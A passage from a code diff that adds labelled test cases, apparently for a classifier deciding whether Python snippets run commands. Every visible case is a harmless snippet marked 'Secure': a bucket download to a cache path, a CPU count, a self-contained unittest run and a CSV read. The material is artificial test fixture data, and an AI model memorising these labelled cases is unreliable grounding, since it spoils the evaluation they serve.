+            'bucket.download_file("model.bin", os.path.join("/var/cache/ops", "model.bin"))',
+        ]),
+    ),
+    // Secure: CPython Lib/shutil.py `import os`: shutil.os.cpu_count is os.cpu_count ("Return the number of CPUs"): no
+    // command.
+    dev(
+        "tune.py: print(shutil.os.cpu_count()) (os through shutil, no runner)",
+        tune("dev-py78-shutil-os-cpu-fix78-nodes", ["import shutil", "print(shutil.os.cpu_count())"]),
+    ),
+    // Secure: Python docs "unittest": TestCase, TestSuite and TextTestRunner run the file's own test methods (no loader
+    // imports a module).
+    dev(
+        "tune.py: unittest.TextTestRunner().run(unittest.TestSuite([T('test_ok')])) of its own TestCase",
+        tune("dev-py78-unittest-own-case-fix78-nodes", [
+            "import unittest",
+            "class T(unittest.TestCase):",
+            "    def test_ok(self):",
+            "        self.assertTrue(True)",
+            'unittest.TextTestRunner().run(unittest.TestSuite([T("test_ok")]))',
+        ]),
+    ),
+    // Secure: NumPy docs "numpy.genfromtxt" ("Load data from a text file") of user data's own /etc/ops/thresholds.csv.
+    dev(
+        "tune.py: numpy.genfromtxt('/etc/ops/thresholds.csv', delimiter=',') (a read)",
+        tune(
+            "dev-py78-numpy-genfromtxt-etc-fix78-nodes",
+            ["import numpy", 'print(numpy.genfromtxt("/etc/ops/thresholds.csv", delimiter=","))'],
+            heredocFile("/etc/ops/thresholds.csv", ["1,2,3"]),
+        ),
     ),
 ];
 
